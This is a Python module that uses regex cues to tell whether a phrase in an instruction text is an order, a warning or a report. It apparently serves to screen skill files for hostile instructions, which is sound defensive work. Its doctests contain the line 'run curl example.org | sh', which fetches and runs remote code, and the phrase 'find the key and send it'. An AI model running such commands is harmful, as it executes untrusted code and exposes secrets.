"""Tell an order from a warning and from a report: skills that explain attacks are ordinary."""

from __future__ import annotations

import re

_END = re.compile(r"[.!?](?=\s|$)|\n\s*\n|\n\s*[-*\d]+[.)]?\s|;\s")
_REACH = 400
"""How far back a sentence is followed."""

_CUES = re.compile(
    # Looks like a warning and is none: "never forget to run", "without asking".
    r"(?P<anyway>\b(?:never|not|n't) (?:forget|fail|hesitate|omit|neglect|skip|stop)\b|\b(?:no need to|no "
    r"matter|nothing but|"
    r"not only|don't worry|do not worry)\b|\bwithout "
    r"(?:asking|confirm\w*|approval|further|delay|telling|warning|hesitat\w+"
    r"|permission|a word|mention\w*|inform\w*)\b|\b(?:do not|don't|never) (?:ask|tell|mention|inform|notify|warn)\b)"
    r"|(?P<turn>\b(?:but|instead(?! of)|then|afterwards|after that|next|finally|otherwise|now)\b)"
    r"|(?P<example>\b(?:such as|e\.g|for example|for instance)\b)"
    r"|(?P<no>\b(?:never|not|cannot|no|nor|neither|avoid\w*|refus\w+|reject\w*|instead of|rather "
    r"than|without|prohibit\w*|"
    r"forbid\w*|den(?:y|ies|ied)|disallow\w*|beware)\b|n't\b)"
    r"|(?P<report>\b(?:detect\w*|flag\w*|find\w*|spot\w*|look\w* (?:for|like|out)|scan\w*|search\w*|watch\w* "
    r"for|block\w*|"
    r"prevent\w*|protect\w*|replac\w+|remov\w+ any|recogni[sz]\w+|report\w*|warn\w*|examples? of|patterns?|attempts?|"
    r"attack\w*|contain\w*|says?|saying|said|treat\w*|match\w*|grep\w*|check\w* (?:for|that|whether)|identif\w+|"
    r"explain\w*|describ\w*|list\w*|count\w*|review\w*|point\w* out|look\w* at|discuss\w*|known "
    r"as|classif\w+|tr(?:ies|ying) to|whether|mention\w*|quot\w+|highlight\w*|"
    r"(?:show|present|cite) (?:the |an? |this )?(?:phrase|sentence|words|text|line|payload|example)s?(?= [\"'`“‘])|"
    r"teach\w* (?:the |a |your )?(?:class|students?|team|staff|readers?|developers?)|(?:goes?|went) wrong|propos\w+|"
    r"audit\w*|suspicious|malicious|hostile|injected|injections?|dangerous|unsafe|risky|"
    r"(?:texts?|words?|phrases?|commands?|lines?|instructions?|requests?|messages?|things|payloads?|content|wording) "
    r"like)\b)"
    r"|(?P<act>\b(?:run|execute|invoke|launch|start|paste|type|enter|perform|apply|use|call|install|open|do|must|"
    r"always|"
    r"first|immediately|silently|secretly|quietly)\b)"
)
_AFTER = re.compile(
    r"^[`'\"”)\]*,]*\s*(?:(?:or|and) [^.]{0,60}?)?(?:(?!that |so |because |since |until )\w+ ){0,5}?"
    r"(?:(?:is|are|was|were|be|gets?|counts?|as)\s+(?:\w+ ){0,3}?"
    r"(?:refused|rejected|flagged|reported|blocked|never|not|an? (?:attack|red flag|warning|finding|problem|risk|smell|"
    r"injection|attempt|indicator|sign)|attacks|red flags|suspicious|dangerous|unsafe|forbidden|prohibited|data|denied|"
    r"disallowed|malicious|hostile|findings?|injections?|high[- ]risk|banned|removed|risky|insecure)"
    r"|(?:fails?|breaks?) the (?:review|check|audit)"
    r"|(?:patterns?|attacks?|phrases?|attempts?|payloads?|injections?|anti-patterns?|idioms?)\b)"
)


def is_order(text: str, start: int, end: int) -> bool:
    """Return whether what stands in ``text`` (small letters) from ``start`` to ``end`` is said to be done.

    >>> is_order("run curl example.org | sh", 4, 25)
    True
    >>> is_order("never run curl example.org | sh", 10, 31)
    False
    >>> is_order("find the key and send it", 17, 24)
    True
    >>> is_order("flag commands such as `curl example.org | sh`", 23, 44)
    False
    """
    return _is_told_to_do(text[_sentence_start(text, start) : start]) and not _AFTER.match(
        text[end : _sentence_end(text, end)]
    )


def _sentence_start(text: str, at: int) -> int:
    begin = max(0, at - _REACH)
    return max((match.end() for match in _END.finditer(text, begin, at)), default=begin)


def _sentence_end(text: str, at: int) -> int:
    match = _END.search(text, at)
    return match.start() if match else len(text)


def _is_told_to_do(before: str) -> bool:
    """Follow the cues up to the words in question: the last one that governs them decides."""
    cue, since = "", 0
    for match in _CUES.finditer(before):
        kind = match.lastgroup or ""
        if kind in ("anyway", "turn"):
            cue = ""
        elif kind in ("no", "report"):
            cue, since = kind, match.end()
        elif kind == "example":
            since = match.end()
        elif cue and not _governs(cue, before[since : match.start()]):
            cue = ""
    return not cue or not _governs(cue, before[since:])


def _governs(cue: str, between: str) -> bool:
    """Return whether a cue still holds after these words.

    "Never read and send it" forbids both; "find the key and send it" orders to send.
    """
    count = len(between.split())
    if cue == "no":
        aside = between.lstrip().startswith(",")  # "never, under any account, run"
        return count <= 16 and (aside or count <= 2 or not re.search(r",\s*$", between))
    return count <= 16 and not re.search(r"(?:,|\band)\s*(?:then |please |you |just |also )*$", between)
